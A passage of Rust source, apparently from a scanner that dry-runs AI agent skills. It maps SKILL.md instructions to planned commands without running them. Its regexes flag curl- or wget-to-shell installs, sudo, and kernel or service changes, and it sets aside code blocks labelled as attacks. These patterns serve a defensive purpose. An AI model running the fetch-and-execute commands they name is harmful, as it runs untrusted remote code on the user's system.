//! Dry-run planning: the exact context an agent would receive (SKILL.md's body and the files it references) and the
//! commands the skill asks for (fenced shell lines, shipped scripts with their interpreters, package installs), each
//! tied to its file and line and to the scan's findings there. Nothing is executed.

use std::path::Path;
use std::sync::LazyLock;

use regex::Regex;

use airlock_types::{ContextFile, FileKind, Plan, PlanStep, ScanReport};

use crate::markdown::{segments, Segment};
use crate::{skillmd, ScanError};

mod scripts;
mod shell;

fn to_u32(n: usize) -> u32 {
    u32::try_from(n).unwrap_or(u32::MAX)
}

/// Context files larger than this are listed without their text.
const CONTEXT_TEXT_LIMIT: u64 = 256 * 1024;

re!(
    INSTALL,
    r"(?x)
    \b(?:pip3?|uv\s+pip|python3?\s+-m\s+pip)\s+install\b
    | \bnpm\s+(?:i|install|ci|add)\b
    | \bpnpm\s+(?:i|add|install)\b
    | \byarn\s+(?:add|install)\b
    | \bbun\s+(?:add|install|i)\b
    | \bcargo\s+(?:install|add)\b
    | \bapt(?:-get)?\s+install\b
    | \bbrew\s+(?:install|reinstall)\b
    | \b(?:winget|choco|scoop)\s+install\b
    | \b(?:dnf|yum|zypper|apk|snap|port)\s+(?:install|add)\b
    | \bpacman\s+-S
    | \b(?:conda|mamba|micromamba)\s+install\b
    | \b(?:curl|wget)\b[^|\n]*\|\s*(?:sudo\s+)?(?:ba|z)?sh\b
    | \b(?:ba|z)?sh\s+(?:-c\s+)?(?:<\(|\x22\$\()\s*(?:curl|wget)\b"
);

/// The package manager a command line installs with, if it installs anything.
pub fn install_manager(command: &str) -> Option<&'static str> {
    let m = INSTALL.find(command)?.as_str().trim_start();
    let first = m.split_whitespace().next().unwrap_or_default();
    Some(if m.contains('|') || m.contains("<(") || m.contains("$(") {
        "curl-pipe-shell"
    } else {
        match first {
            "npm" => "npm",
            "pnpm" => "pnpm",
            "yarn" => "yarn",
            "bun" => "bun",
            "cargo" => "cargo",
            "apt" | "apt-get" => "apt",
            "brew" => "brew",
            "winget" => "winget",
            "choco" => "choco",
            "scoop" => "scoop",
            "dnf" => "dnf",
            "yum" => "yum",
            "zypper" => "zypper",
            "apk" => "apk",
            "snap" => "snap",
            "port" => "port",
            "pacman" => "pacman",
            "conda" | "mamba" | "micromamba" => "conda",
            _ => "pip",
        }
    })
}

/// Package managers of an operating system (or of another one): nothing a sandbox run can install with.
const SYSTEM_MANAGERS: &[&str] = &[
    "apt", "brew", "winget", "choco", "scoop", "dnf", "yum", "zypper", "apk", "snap", "port", "pacman",
    "conda",
];

re!(
    HOST_ONLY,
    r"(?m)>\s*/proc/sys/|\bsysctl\s+(?:-w\s|\S+=)|(?:^|[;&|]\s*)(?:modprobe|insmod|rmmod|swapon|swapoff|mount|umount|systemctl|service|launchctl)\s"
);

re!(
    /// A command that writes a dependency lock file from what a project declares (`pip-compile requirements.in`,
    /// `uv pip compile`, `uv lock`, `poetry lock`, `pip freeze > requirements.txt`): a maintainer's step.
    LOCK_MAINTENANCE,
    r"(?m)^\s*(?:pip-compile\b|uv\s+pip\s+compile\b|uv\s+lock\b|poetry\s+lock\b|pipenv\s+lock\b|pip3?\s+freeze\s*>)"
);

/// Why a command that regenerates the skill's dependency lock file is not run: the install phase installs what the
/// lock lists (and a sandbox run has no registry to resolve against).
fn lock_maintenance(command: &str) -> Option<String> {
    LOCK_MAINTENANCE.find(command).map(|m| {
        format!(
            "`{}` regenerates the skill's dependency lock file (a maintainer's step): the install phase installs what \
             the skill's requirements list",
            m.as_str().trim().trim_end_matches('>').trim()
        )
    })
}

/// Why a command is not run because of what it needs of the host: a system package install, or root.
fn needs_the_host(command: &str) -> Option<String> {
    if let Some(manager) = install_manager(command).filter(|m| SYSTEM_MANAGERS.contains(m)) {
        return Some(format!(
            "installs a system package with {manager}: a sandbox run installs no system packages (a program the \
             skill needs that this machine lacks is named in the summary)"
        ));
    }
    if command.lines().any(|l| {
        let l = l.trim_start();
        l.starts_with("sudo ") || l.contains("&& sudo ") || l.contains("; sudo ") || l.contains("| sudo ")
    }) {
        return Some("it runs sudo: a sandbox run never has root".to_owned());
    }
    // The kernel's settings, modules, mounts and services are the host's, never a sandbox's.
    HOST_ONLY.find(command).map(|m| {
        format!(
            "`{}` changes the host's kernel settings or services: a sandbox run cannot, and should not",
            m.as_str().trim().trim_start_matches([';', '&', '|']).trim()
        )
    })
}

/// The interpreter for a script the skill ships, from its extension or its `#!` line.
pub fn interpreter(path: &str, text: &str) -> Option<String> {
    if let Some(first) = text.lines().next().and_then(|l| l.strip_prefix("#!")) {
        let mut parts = first.split_whitespace();
        let prog = parts.next()?;
        let name = if prog.ends_with("/env") {
            parts.next()?
        } else {
            prog.rsplit('/').next()?
        };
        return Some(name.to_owned());
    }
    // Without a `#!` line, by the language the inventory gives the extension.
    let program = match crate::inventory::language_of(path)? {
        "python" => "python3",
        "shell" => "bash",
        "javascript" => "node",
        "typescript" => "npx tsx",
        "ruby" => "ruby",
        "perl" => "perl",
        _ => return None,
    };
    Some(program.to_owned())
}

/// Builds the plan for the skill at `subpath` of `tree_root` (the scan root of `report`).
pub fn plan(tree_root: &Path, subpath: &str, report: &ScanReport) -> Result<Plan, ScanError> {
    let meta = skillmd::validate(tree_root, subpath, None)?;
    let prefix = if subpath.is_empty() {
        String::new()
    } else {
        format!("{}/", subpath.trim_end_matches('/'))
    };
    let skill_md = format!("{prefix}SKILL.md");
    // The name commands give the skill's folder: its declared name, or, where the front matter does not parse (a
    // description with an unquoted `: `), the folder's own (the subpath's last part, else the folder or
    // repository given).
    let folder = if subpath.trim_matches('/').is_empty() {
        report
            .source
            .repo_url
            .trim_end_matches('/')
            .trim_end_matches(".git")
    } else {
        subpath.trim_end_matches('/')
    };
    let own_name = meta
        .name
        .clone()
        .or_else(|| folder.rsplit(['/', '\\']).next().map(str::to_owned))
        .unwrap_or_default();
    let findings_at = |file: &str, line: u32| -> Vec<String> {
        let mut rules: Vec<String> = report
            .findings
            .iter()
            .filter(|f| f.file == file && f.line == line)
            .map(|f| f.rule.clone())
            .collect();
        rules.dedup();
        rules
    };
    let mut plan = Plan {
        skill_name: meta.name.clone(),
        description: meta.description.clone(),
        allowed_tools: meta.allowed_tools.clone(),
        ..Plan::default()
    };
    plan.context.push(ContextFile {
        path: skill_md.clone(),
        bytes: meta.body.len() as u64,
        text: Some(meta.body.clone()),
    });
    // Files the body names, in the order it first names them.
    let mut referenced: Vec<(usize, &airlock_types::InventoryEntry)> = report
        .inventory
        .files
        .iter()
        .filter(|f| f.path != skill_md && f.path.starts_with(&prefix))
        .filter_map(|f| meta.body.find(&f.path[prefix.len()..]).map(|at| (at, f)))
        .collect();
    referenced.sort_by_key(|(at, f)| (*at, f.path.clone()));
    for (_, f) in &referenced {
        let full = tree_root.join(&f.path);
        let text = if f.size <= CONTEXT_TEXT_LIMIT && !matches!(f.kind, FileKind::Binary | FileKind::Symlink)
        {
            fs_err::read(&full).ok().and_then(|b| String::from_utf8(b).ok())
        } else {
            None
        };
        if matches!(f.kind, FileKind::Markdown) {
            plan.context.push(ContextFile {
                path: f.path.clone(),
                bytes: f.size,
                text: text.clone(),
            });
        }
        if matches!(f.kind, FileKind::Script) {
            // By its name or `#!` line, else by the language the scan gave it (a file the instructions run with
            // `make -f` is a makefile whatever its name).
            let interp = interpreter(&f.path, text.as_deref().unwrap_or_default()).or_else(|| {
                Some(
                    match f.language.as_deref()? {
                        "make" => "make -f",
                        "python" => "python3",
                        "shell" => "bash",
                        "javascript" => "node",
                        "perl" => "perl",
                        "ruby" => "ruby",
                        "powershell" => "pwsh",
                        _ => return None,
                    }
                    .to_owned(),
                )
            });
            let rel = &f.path[prefix.len()..];
            let command = match &interp {
                Some(i) => format!("{i} {rel}"),
                None => rel.to_owned(),
            };
            plan.steps.push(PlanStep {
                kind: "script".into(),
                command,
                interpreter: interp,
                file: f.path.clone(),
                line: 0,
                findings: findings_at(&f.path, 0),
                example: None,
                note: None,
            });
        }
    }
    // Commands of fenced shell blocks, in document order, before the scripts they may call: a compound command is
    // one step, and a block whose commands share state (a variable, `cd`, `$!`) is one script.
    let mut shell = Vec::new();
    // Commands already planned, as the shell reads them (comments and spacing aside): one shown twice runs once.
    let mut planned: Vec<(String, u32)> = Vec::new();
    // The prose line before a block, when it ends in `:`, is its label.
    let mut label: Option<String> = None;
    for seg in segments(&meta.body, meta.body_line) {
        let (lang, line, text) = match seg {
            Segment::Code { lang, line, text } => (lang, line, text),
            Segment::Prose { text, .. } => {
                let text = text.trim();
                // A fence line an indented block leaves as prose (in a list item) is not a label.
                if !text.is_empty() && !text.starts_with("```") && !text.starts_with("~~~") {
                    label = text.ends_with(':').then(|| text.to_owned());
                }
                continue;
            }
            _ => continue,
        };
        // A block its label shows as an attack or as what not to do (`A stealer typically does something like:`)
        // is an example of it, not a step; the scan counts it, and a detonation runs it.
        let shown_attack = std::mem::take(&mut label).filter(|l| crate::rules::shows_an_attack(l));
        // A block of no language is shell when each of its commands runs one of the skill's scripts
        // (`python3 "$SKILL_DIR/scripts/x.py" init --root "$REPO"`).
        let shell_block = matches!(
            lang.as_str(),
            "sh" | "bash" | "shell" | "console" | "zsh" | "terminal"
        ) || (lang.is_empty()
            && runs_the_skills_scripts(&skill_dir_placeholders(&text, &own_name)));
        if !shell_block {
            continue;
        }
        let prompts = matches!(lang.as_str(), "console" | "terminal")
            && text.lines().any(|l| l.trim_start().starts_with("$ "));
        let mut units = shell::units(&text, prompts);
        if shell::shares_state(&units) {
            let (first, last) = (units[0].line, units[units.len() - 1].last);
            let text = units
                .iter()
                .map(|u| u.text.as_str())
                .collect::<Vec<_>>()
                .join("\n");
            units = vec![shell::Unit {
                line: first,
                last,
                text,
            }];
        }
        // The skill's scripts each command of this block starts, to tell variants of one command apart.
        let mut started_here: Vec<(String, u32)> = Vec::new();
        for unit in units {
            let command = skill_dir_placeholders(&unit.text, &own_name);
            let (command, filled) = target_placeholders(&command);
            let (command, guarded) = shell::guard_tests(&command);
            let (command, searched) = shell::search_may_find_nothing(&command);
            let (command, listed) = shell::listing_may_find_nothing(&command);
            let kind = if install_manager(&command).is_some() {
                "install"
            } else {
                "shell"
            };
            let (start, end) = (line + to_u32(unit.line), line + to_u32(unit.last));
            let findings = (start..=end).flat_map(|n| findings_at(&skill_md, n)).collect();
            let code = shell::code_lines(&command);
            let script = scripts_named(&code, &report.inventory.files, &prefix);
            let variant = script.as_ref().and_then(|s| {
                started_here.iter().find(|(p, _)| p == s).map(|(_, at)| {
                    format!(
                        "a variant of the command at {skill_md}:{at} (the same script with other arguments)"
                    )
                })
            });
            let example = shown_attack
                .as_ref()
                .map(|l| {
                    format!(
                        "{SHOWN_AS_AN_ATTACK} (after `{}`)",
                        airlock_types::display::line(l)
                    )
                })
                .or_else(|| not_a_command(&code))
                .or_else(|| placeholder(&code).map(|p| format!("an example: `{p}` is a placeholder")))
                .or_else(|| needs_the_host(&code))
                .or_else(|| lock_maintenance(&code))
                .or_else(|| interactive(&code))
                .or_else(|| follows_forever(&code))
                .or_else(|| shell::server(&code))
                .or_else(|| shell::unset_variable(&code))
                .or(variant);
            let same = shell::as_run(&code);
            let example = example.or_else(|| {
                planned
                    .iter()
                    .find(|(c, _)| *c == same)
                    .map(|(_, at)| format!("the same command as at {skill_md}:{at}, run once"))
            });
            if example.is_none() {
                planned.push((same, start));
            }
            if let (Some(s), None) = (script, &example) {
                started_here.push((s, start));
            }
            shell.push(PlanStep {
                kind: kind.into(),
                example,
                command,
                interpreter: None,
                file: skill_md.clone(),
                line: start,
                findings,
                note: filled
                    .map(|p| format!("`{p}` is the project the skill works on: the target, at {TARGET_DIR}"))
                    .or_else(|| {
                        guarded.then(|| {
                            "`[ test ] && command` runs as `if [ test ]; then command; fi`: a test that does not hold \
                             skips the command, it is not a failure"
                                .to_owned()
                        })
                    })
                    .or_else(|| {
                        searched.then(|| {
                            "a search that finds nothing (exit 1) is an answer, not a failure; an error (exit 2) still \
                             fails"
                                .to_owned()
                        })
                    })
                    .or_else(|| {
                        listed.then(|| {
                            "a listing of a name pattern with its errors discarded is a check: no such file (exit 2) \
                             is an answer, not a failure"
                                .to_owned()
                        })
                    }),
            });
        }
    }
    // The skill's own command-line program (a console script of its `pyproject.toml`), called in SKILL.md as a list
    // item of inline code (`- \`tool --output json auth check\``): each such item is a command of that program.
    let own = own_programs(&tree_root.join(subpath));
    if !own.is_empty() {
        for (i, text) in meta.body.lines().enumerate() {
            let Some(code) = INLINE_ITEM.captures(text).map(|c| c[1].trim().to_owned()) else {
                continue;
            };
            if !code
                .split_whitespace()
                .next()
                .is_some_and(|p| own.iter().any(|o| o == p))
            {
                continue;
            }
            if shell.iter().any(|s| s.command == code) {
                continue;
            }
            let line = meta.body_line + to_u32(i);
            shell.push(PlanStep {
                kind: "shell".into(),
                example: placeholder(&code).map(|p| format!("an example: `{p}` is a placeholder")),
                command: code,
                interpreter: None,
                file: skill_md.clone(),
                line,
                findings: findings_at(&skill_md, line),
                note: Some(OWN_PROGRAM_NOTE.into()),
            });
        }
        shell.sort_by_key(|s| s.line);
    }
    // A script that a command of SKILL.md runs is run there, with its arguments, not again on its own; one the
    // instructions only name runs on its own if it is a program that needs no arguments.
    // The skill's code, read once and only when a script has to be read as a program or a helper.
    let mut code: Option<Vec<(String, String)>> = None;
    for step in &mut plan.steps {
        let rel = &step.file[prefix.len()..];
        if let Some(by) = shell
            .iter()
            .find(|s| s.command.contains(rel) && s.example.is_none())
        {
            step.example = Some(format!("run by {}:{}", by.file, by.line));
        } else if let Some(by) = shell.iter().find(|s| s.command.contains(rel)) {
            step.example = Some(format!(
                "called only by the example at {}:{}, with arguments to fill in (try --script)",
                by.file, by.line
            ));
        } else {
            let language = report
                .inventory
                .files
                .iter()
                .find(|f| f.path == step.file)
                .and_then(|f| f.language.clone());
            if let Some(why) = scripts::material(rel) {
                step.example = Some(why);
                continue;
            }
            if sets_up(rel)
                && fs_err::read_to_string(tree_root.join(&step.file))
                    .is_ok_and(|text| scripts::only_installs(&text))
            {
                step.example = Some(
                    "installs what the skill's manifests declare, which the install phase installs"
                        .to_owned(),
                );
                continue;
            }
            // Shown with its arguments in the instructions' inline code (a usage table): run as shown, or listed
            // when the arguments are placeholders.
            if let Some((at, args)) = scripts::usage_shown(rel, &meta.body, meta.body_line) {
                if let Some(p) = placeholder(&format!("{rel} {args}")) {
                    step.example = Some(format!(
                        "shown with arguments to fill in at {skill_md}:{at} (`{p}` is a placeholder); try --script \
                         {rel} -- ARGS"
                    ));
                } else {
                    step.command = format!("{} {args}", step.command);
                    step.note = Some(format!(
                        "with the arguments the instructions show at {skill_md}:{at}"
                    ));
                }
                continue;
            }
            if let Some(at) =
                scripts::imported_by_instructions(rel, language.as_deref(), &meta.body, meta.body_line)
            {
                step.example = Some(format!(
                    "a module the instructions' code imports ({skill_md}:{at}): it runs inside that code, not on \
                     its own; try --script {rel} -- ARGS"
                ));
                continue;
            }
            let code =
                code.get_or_insert_with(|| scripts::code_files(tree_root, &prefix, &report.inventory.files));
            let text = match code.iter().find(|(path, _)| path == rel) {
                Some((_, text)) => text.clone(),
                None => fs_err::read_to_string(tree_root.join(&step.file)).unwrap_or_default(),
            };
            step.example = scripts::not_standalone(rel, &text, language.as_deref(), code);
        }
    }
    // A script that sets the skill up (`scripts/setup.sh`, `install.sh`) runs before the commands that need it.
    let (mut setup, mut scripts): (Vec<_>, Vec<_>) = std::mem::take(&mut plan.steps)
        .into_iter()
        .partition(|s| s.example.is_none() && sets_up(&s.file));
    setup.append(&mut shell);
    setup.append(&mut scripts);
    plan.steps = setup;
    Ok(plan)
}

re!(
    /// A command that runs a script of the skill by its path: `python3 "$SKILL_DIR/scripts/x.py" …`,
    /// `bash scripts/check.sh`, `./scripts/x.sh`.
    SKILL_SCRIPT_COMMAND,
    r#"^(?:\$\s+)?(?:(?:python3?|bash|sh|node|bun|uv\s+run|npx\s+tsx|deno\s+run(?:\s+-\S+)*)\s+)?["']?(?:\$\{?SKILL_DIR\}?/|\./)?(?:scripts|bin)/[\w./-]+\.(?:py|sh|js|mjs|cjs|ts)\b"#
);

/// Whether every command of a block (comments, blank lines and continued lines aside) runs one of the skill's
/// scripts by its path.
fn runs_the_skills_scripts(text: &str) -> bool {
    let mut any = false;
    let mut continued = false;
    for line in text.lines().map(str::trim) {
        if continued {
            continued = line.ends_with('\\');
            continue;
        }
        if line.is_empty() || line.starts_with('#') {
            continue;
        }
        if !SKILL_SCRIPT_COMMAND.is_match(line) {
            return false;
        }
        any = true;
        continued = line.ends_with('\\');
    }
    any
}

re!(
    /// A script named for setting its skill up: `setup.sh`, `install-deps.sh`, `bootstrap.py`.
    SETUP_SCRIPT,
    r"(?i)(?:^|/)(?:setup|install|bootstrap)(?:[-_][\w-]*)?\.(?:sh|bash|py|js|mjs|cjs)$"
);

/// Whether a script of the skill is named for setting it up.
fn sets_up(path: &str) -> bool {
    SETUP_SCRIPT.is_match(path)
}

re!(
    /// A list item that is one span of inline code: `- \`tool auth check\``, `1. \`tool list\``.
    INLINE_ITEM,
    r"^\s*(?:[-*+]|\d+[.)])\s+`([^`]+)`\s*$"
);

/// Why a file of the skill is material to copy or adapt (a template, an asset, a reference, an example, a test) rather
/// than a program to start, judged by its name and folder; `None` when nothing says so.
pub fn material(rel: &str) -> Option<String> {
    scripts::material(rel)
}

/// The note of a step that runs the skill's own program.
pub const OWN_PROGRAM_NOTE: &str = "the skill's own program (its pyproject.toml), installed with the skill";

/// The command-line programs the skill's own package provides: the console scripts of the `pyproject.toml` at its
/// root (`[project.scripts]`), which a run installs with the skill.
pub fn own_programs(skill_root: &Path) -> Vec<String> {
    fs_err::read_to_string(skill_root.join("pyproject.toml"))
        .ok()
        .and_then(|t| t.parse::<toml::Table>().ok())
        .and_then(|t| {
            t.get("project")?
                .get("scripts")?
                .as_table()
                .map(|s| s.keys().cloned().collect())
        })
        .unwrap_or_default()
}

/// The first of the skill's scripts a command names (its path inside the skill).
fn scripts_named(code: &str, files: &[airlock_types::InventoryEntry], prefix: &str) -> Option<String> {
    files
        .iter()
        .filter(|f| f.kind == FileKind::Script && f.path.starts_with(prefix))
        .map(|f| &f.path[prefix.len()..])
        .filter(|rel| rel.contains('/'))
        .filter_map(|rel| code.find(rel).map(|at| (at, rel)))
        .min()
        .map(|(_, rel)| rel.to_owned())
}

/// The module name a Python file of the skill runs as (`python -m scripts.package_skill`) when it is a module of a
/// package (it imports relatively, so it cannot run as a file).
pub fn python_module(rel: &str, text: &str) -> Option<String> {
    let module = rel.strip_suffix(".py")?;
    (scripts::imports_relatively(text)
        && !module
            .split('/')
            .any(|p| p.is_empty() || p.contains(['.', '-', ' '])))
    .then(|| module.replace('/', "."))
}

/// The names agents give the skill's own folder in the commands they are shown (`{baseDir}` and the like): they
/// fill it in, so the plan does too, with the sandbox's `$SKILL_DIR`.
const SKILL_DIR_PLACEHOLDERS: &[&str] = &[
    "${baseDir}",
    "{baseDir}",
    "${skillDir}",
    "{skillDir}",
    "${SKILL_DIR}",
    "{SKILL_DIR}",
    "{skill_dir}",
    "${CLAUDE_SKILL_DIR}",
    "$CLAUDE_SKILL_DIR",
    "${CLAUDE_PLUGIN_ROOT}",
    "$CLAUDE_PLUGIN_ROOT",
];

re!(
    /// A placeholder naming the skill's folder before a path in it: `<this-skill>/scripts/x.js`, `<skill_dir>/`,
    /// `<path-to-skill>/`, `{skill_path}/`.
    SKILL_FOLDER_PLACEHOLDER,
    r"(?i)(?:<[\w-]*skill[\w-]*>|\{[\w-]*skill[\w-]*\})/"
);

/// Where a run puts the target, the project a skill works on.
pub const TARGET_DIR: &str = "/workspace";

re!(
    /// A placeholder that stands for the project the skill works on (`<project-root>`, `<path-to-repo>`,
    /// `{repo_path}`, `/path/to/project`), with what follows it (the end of a word).
    PROJECT_PLACEHOLDER,
    r#"(?i)(<(?:path[-_ ]to[-_ ](?:the[-_ ]|your[-_ ])?|your[-_ ])?(?:project|repo|repository|codebase|workspace|git[-_ ]repo)(?:[-_ ](?:root|dir|directory|path|folder))?>|\{(?:project|repo|repository|codebase|workspace)(?:_(?:root|dir|path))?\}|/path/to/(?:your[-_])?(?:project|repo|repository|codebase)/?)($|[\s'"`;|&)])"#
);

/// A command with the placeholders that stand for the project filled in with the target, which is the project a
/// run gives the skill (an agent fills them in with the user's project), and the first placeholder filled.
pub fn target_placeholders(command: &str) -> (String, Option<String>) {
    let mut first = None;
    let filled = PROJECT_PLACEHOLDER.replace_all(command, |c: &regex::Captures<'_>| {
        first.get_or_insert_with(|| c[1].to_owned());
        format!("{TARGET_DIR}{}", &c[2])
    });
    // A variable named for the project (`"$REPO"`, `${PROJECT_ROOT}`) that the command does not set itself.
    let mut out = String::with_capacity(filled.len());
    let mut last = 0;
    for c in PROJECT_VARIABLE.captures_iter(&filled) {
        let (Some(whole), Some(name)) = (c.get(0), c.get(1).or_else(|| c.get(2))) else {
            continue;
        };
        if sets_variable(&filled, name.as_str()) {
            continue;
        }
        first.get_or_insert_with(|| whole.as_str().to_owned());
        out.push_str(&filled[last..whole.start()]);
        out.push_str(TARGET_DIR);
        last = whole.end();
    }
    out.push_str(&filled[last..]);
    (out, first)
}

re!(
    /// A shell variable named for the project a skill works on: `$REPO`, `${REPO_ROOT}`, `$PROJECT_DIR`.
    PROJECT_VARIABLE,
    r"\$(?:\{((?:REPO|PROJECT|WORKSPACE|GIT)_(?:ROOT|DIR|PATH)|REPO|PROJECTROOT|WORKSPACE)\}|((?:REPO|PROJECT|WORKSPACE|GIT)_(?:ROOT|DIR|PATH)|REPO|PROJECTROOT|WORKSPACE)(?-u:\b))"
);

/// Whether a command sets a variable itself (`NAME=…`, `export NAME=…`, `read NAME`, `for NAME in`).
fn sets_variable(command: &str, name: &str) -> bool {
    let e = regex::escape(name);
    Regex::new(&format!(
        r"(?:^|[\s;&|(]){e}=|\bread\b[^\n;&|]*\s{e}\b|\bfor\s+{e}\s+in\b|\b(?:local|declare|typeset)\s+(?:-\w+\s+)*{e}\b"
    ))
    .is_ok_and(|re| re.is_match(command))
}

/// A command with the skill-folder placeholders agents fill in replaced by `$SKILL_DIR`.
pub fn skill_dir_placeholders(command: &str, skill_name: &str) -> String {
    let replaced = SKILL_DIR_PLACEHOLDERS
        .iter()
        .fold(command.to_owned(), |c, p| c.replace(p, "$SKILL_DIR"));
    // The folder that holds the skills, then the skill's own name (`{skillsRoot}/NAME/scripts/x.cjs`), is the
    // skill's folder.
    let replaced = if skill_name.is_empty() {
        replaced
    } else {
        let root = format!(
            r#"(?i)(?:<[\w-]*skill[\w-]*>|\{{[\w-]*skill[\w-]*\}})/{}(/|$|[\s'"`;&|)])"#,
            regex::escape(skill_name)
        );
        match Regex::new(&root) {
            Ok(re) => re.replace_all(&replaced, "$$SKILL_DIR$1").into_owned(),
            Err(_) => replaced,
        }
    };
    let replaced = SKILL_FOLDER_PLACEHOLDER
        .replace_all(&replaced, "$$SKILL_DIR/")
        .into_owned();
    // A path from the collection's root through the skill's own folder (`crm/scripts/crm-cli`,
    // `skills/crm/scripts/crm-cli` or `.agent-skills/crm/scripts/crm-cli` in the skill `crm`) is the skill's file.
    let replaced = if skill_name.is_empty() {
        replaced
    } else {
        let own = format!(
            r#"(^|[\s'"=(])(?:\./)?(?:[\w.-]+/){{0,3}}?{}/((?:scripts|references|assets|bin|lib|tests|examples|templates)/)"#,
            regex::escape(skill_name)
        );
        match Regex::new(&own) {
            Ok(re) => re.replace_all(&replaced, "$1$$SKILL_DIR/$2").into_owned(),
            Err(_) => replaced,
        }
    };
    // `python -m unittest` takes a test file's path only relative to where it runs: from the skill's folder.
    let replaced = UNITTEST_IN_SKILL
        .replace_all(&replaced, "${1}cd \"$$SKILL_DIR\" && $2 $3")
        .into_owned();
    // Where an agent installs the skill (`~/.codex/skills/NAME`, `~/.claude/skills/NAME`, `$HOME/...`) is the skill's
    // folder too.
    if skill_name.is_empty() || !replaced.contains("/skills/") {
        return replaced;
    }
    // The skill may sit in a folder of its collection there (`~/.agent/skills/health/NAME`).
    let installed = format!(
        r#"(?:~|\$HOME|\$\{{HOME\}})/(?:{})/skills/(?:[\w.-]+/){{0,2}}?{}(/|$|[\s'";&|)])"#,
        AGENT_DIRS
            .iter()
            .map(|a| regex::escape(a))
            .collect::<Vec<_>>()
            .join("|"),
        regex::escape(skill_name)
    );
    let replaced = match Regex::new(&installed) {
        Ok(re) => re.replace_all(&replaced, "$$SKILL_DIR$1").into_owned(),
        Err(_) => replaced,
    };
    // The same folder in the project (`cd .pi/skills/NAME`, `.claude/skills/NAME/run.sh`), where an agent installs
    // a project's skills: the name must end there (`NAME-other` is another skill).
    let relative = format!(
        r#"(^|[\s'"=(]|\./)(?:{})/skills/{}(/|$|[\s'";&|)])"#,
        AGENT_DIRS
            .iter()
            .map(|a| regex::escape(a))
            .collect::<Vec<_>>()
            .join("|"),
        regex::escape(skill_name)
    );
    match Regex::new(&relative) {
        Ok(re) => re.replace_all(&replaced, "$1$$SKILL_DIR$2").into_owned(),
        Err(_) => replaced,
    }
}

/// Why a command its block's label shows as an attack is not a step: the start of its `example` reason.
pub const SHOWN_AS_AN_ATTACK: &str = "an example shown as an attack or as what not to do";

re!(
    /// `python -m unittest` of a test file in the skill's folder (`python3 -m unittest $SKILL_DIR/tests/test_x.py`).
    UNITTEST_IN_SKILL,
    r"(?m)^(\s*)(python3?\s+-m\s+unittest(?:\s+-\w+)*)\s+\$SKILL_DIR/(\S+\.py)"
);

/// The folders agents keep their skills in, in the home folder or a project.
const AGENT_DIRS: &[&str] = &[
    ".agent",
    ".claude",
    ".codex",
    ".agents",
    ".cursor",
    ".gemini",
    ".pi",
    ".opencode",
];

static PLACEHOLDER: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(
        r"(?x)
        <[\p{L}_][\w\ .-]*>                        # <file>, <input.pdf>, <ルート issue 番号>
        | <[A-Za-z_][\w.-]*(?:\|[\w.-]+)+>          # <file|directory|->: a choice to make
        | (?:^|\s)\[[A-Za-z_][\w-]*(?:…|\.\.\.)?\](?:\s|$)  # [options], [timeout_seconds], [repos…] as an argument
        | (?:^|\s)--?[A-Za-z][\w-]*\s+[A-Z](?:\s|$)  # --after N: one capital letter as an option's value
        | (?:^|\s)\[--?[A-Za-z][\w-]*[^\]\n]*\]     # [--sort cpu|mem], [-h]: a usage synopsis
        | (?:^|[^$\w])\{[a-z_][a-z0-9_]*\}          # {file}, not ${VAR}
        | (?:^|\s)\{[A-Z][A-Z0-9_]*\}(?:\s|$)       # {ID} as an argument
        | (?:^|\s)\.\.\.(?:\s|$)                  # ...
        | \b(?:path/to|path\.to\.\w+|your[_-][a-z_-]+|YOUR_[A-Z_]+)\b     # path.to.module.Class too
        | (?:^|[\s/=-])(?:[A-Z][A-Z0-9]*_[A-Z0-9_]*[A-Z0-9]|USERNAME)(?:[/-]|\.(?:jsonl?|txt|log|csv|py|sh|yaml|yml)\b|\s|$)  # SESSION_FILE.jsonl, -Users-USERNAME-, not $VAR or VAR=",
    )
    .ok()
});

/// The placeholder in a command line copied from documentation, if it has one (`<file>`, `[options]`, `{name}`,
/// `...`, `path/to/...`, `YOUR_API_KEY`).
pub fn placeholder(command: &str) -> Option<String> {
    // Text in quotes is data (`printf '<footer>'`), not an argument to fill in; a comment is not run at all, so a
    // placeholder in it (`# sends <usage stats>`) does not make the command an example.
    let mut unquoted = String::with_capacity(command.len());
    let mut quote: Option<char> = None;
    let mut word_start = true;
    // Where the comment starts: what follows is not looked at, in quotes or not.
    let mut code_end = command.len();
    for (at, c) in command.char_indices() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '\'' || c == '"' => quote = Some(c),
            None if c == '#' && word_start => {
                code_end = at;
                break;
            }
            None => unquoted.push(c),
        }
        word_start = quote.is_none() && (c.is_whitespace() || c == ';' || c == '&' || c == '|');
    }
    if let Some(m) = PLACEHOLDER.as_ref()?.find(&unquoted) {
        return Some(m.as_str().trim().to_owned());
    }
    // A quoted argument that is a placeholder and nothing else (`openspec show "<change>" --json`), given to a
    // program that does not print or write its arguments as data (`printf '<footer>'` prints markup).
    let code = &command[..code_end];
    if let Some(c) = WHOLE_QUOTED_PLACEHOLDER.captures(code) {
        let printer = code.lines().any(|l| {
            let first = l.split_whitespace().next().unwrap_or_default();
            matches!(first, "echo" | "printf" | "cat" | "tee") && l.contains(&c[1])
        });
        if !printer {
            return Some(c[1].to_owned());
        }
    }
    // A name in braces in an option's quoted value (`git commit -m "simplify: {batch_summary}"`) is text to write;
    // not in code given to an interpreter (`python3 -c "print(f'{total}')"`).
    if let Some(c) = BRACED_IN_OPTION.captures(code) {
        if !matches!(
            c[1].trim_end_matches([' ', '=']),
            "-c" | "-e" | "--eval" | "--command" | "--exec" | "-p"
        ) {
            return Some(c[2].to_owned());
        }
    }
    // A line of text to write that is a placeholder alone (a commit message's `<brief description of the change>`
    // in a here-document): words or letters of a language in angle brackets, not a markup tag.
    if let Some(m) = PLACEHOLDER_LINE.find(code) {
        return Some(m.as_str().trim().to_owned());
    }
    // In quotes, a placeholder that stands for part of an address or a path still is one (`"<baseUrl>/api"`,
    // `"https://{host}/v1"`, `"YOUR_API_KEY"`); markup in quoted data (`'<footer>ok</footer>'`) is not.
    QUOTED_PLACEHOLDER
        .as_ref()?
        .captures(&command[..code_end])
        // Markup given as an option's value (`-d '<html>ok</html>'`) is data.
        .filter(|c| !c.get(5).is_some_and(|rest| rest.as_str().contains("</")))
        .and_then(|c| (1..=4).find_map(|i| c.get(i)))
        .map(|m| m.as_str().to_owned())
}

re!(
    /// A line that is one placeholder in angle brackets: with a space and no attribute (`<brief description>`), or
    /// in letters beyond ASCII (`<変更内容の要約>`).
    PLACEHOLDER_LINE,
